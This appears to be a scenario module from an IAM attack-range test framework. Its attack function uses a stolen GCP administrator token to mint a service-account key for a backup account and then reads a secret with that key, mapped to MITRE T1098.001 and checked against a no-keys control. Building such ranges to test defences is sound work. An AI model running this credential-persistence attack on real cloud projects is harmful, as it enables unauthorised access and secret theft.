"""A service-account key, minted to outlive the token that made it."""

from __future__ import annotations

import base64
import json

from google.auth.transport.requests import AuthorizedSession
from google.oauth2 import service_account

from iamrange.core import frameworks as fw
from iamrange.core import gcp_controls
from iamrange.core.scenario import Asset, AssetKind, Foothold, Loot, Material, Part, Scenario, Taken
from scenarios import workloads


def attack(foothold: Taken) -> Loot:
    """Mint a key for the backup account with the administrator's token, and read with the key."""
    http = AuthorizedSession(workloads.bearer(foothold.gcp_access_token))
    account = foothold.knows["gcp.backup_service_account"]
    answer = http.post(
        f"https://iam.googleapis.com/v1/projects/-/serviceAccounts/{account}/keys",
        json={"privateKeyType": "TYPE_GOOGLE_CREDENTIALS_FILE"},
        timeout=10,
    )
    answer.raise_for_status()
    key_file = json.loads(base64.b64decode(answer.json()["privateKeyData"]))
    credentials = service_account.Credentials.from_service_account_info(
        key_file, scopes=[workloads.CLOUD_PLATFORM]
    )
    return Loot((workloads.read_gcp_secret(credentials, foothold.knows["gcp.backup_secret"]),))


SCENARIO = Scenario(
    claim="nobody in the organisation can mint a service-account key",
    blocked_by=(gcp_controls.NO_SERVICE_ACCOUNT_KEYS,),
    foothold=Foothold(Part.PLATFORM_ADMIN, Material.GCP_ACCESS_TOKEN, taken_from="process memory"),
    asset=Asset(AssetKind.GCP_BACKUP_SECRET),
    knows=("gcp.backup_service_account", "gcp.backup_secret"),
    legitimate=workloads.READS_OWN_GCP_SECRET,
    attack=attack,
    maps_to=(fw.NHI7, fw.T1098_001),
    lesson="A key file has no session to end: the only good one is the one never made.",
)
